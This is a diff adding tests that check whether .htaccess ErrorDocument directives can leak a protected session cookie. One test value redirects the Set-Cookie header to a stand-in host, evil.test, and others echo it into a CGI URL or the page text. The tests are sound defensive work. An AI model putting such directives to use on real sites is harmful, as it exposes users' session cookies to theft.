@@ -155,6 +155,20 @@ describe('an author of .htaccess', () => {
         assert.doesNotMatch(seen(answer), /scalekit=\w{20}/);
       });
     }
+
+    // httpd finds that out when it has the whole answer.
+    const documents = {
+      'elsewhere': '"http://evil.test/?%{resp:Set-Cookie}"', 'in a script': `"${page('session', 'SessionEnv')}index.cgi?%{resp:Set-Cookie}"`, 'of a text': '"%{resp:Set-Cookie}"',
+    };
+    for (const [where, document] of Object.entries(documents)) {
+      it(`an ErrorDocument ${where}, for a Range that is not there`, async () => {
+        site.writeFiles({ 'htdocs/eve/range/.htaccess': `${always}\nErrorDocument 416 ${document}\n`, 'htdocs/eve/range/page.html': 'a page' });
+        const answer = await ada.get('/eve/range/page.html', { headers: { Range: 'bytes=999-', Cookie: `session=${value}` } });
+        assert.equal(answer.status, where === 'elsewhere' ? 302 : 416);
+        assert.doesNotMatch(seen(answer), /scalekit=/);
+        assert.deepEqual(answer.all('Set-Cookie').map((line) => line.split('=')[0]), ['session']);
+      });
+    }
   });
 
   describe('does not change the attributes of the session cookie with', () => {
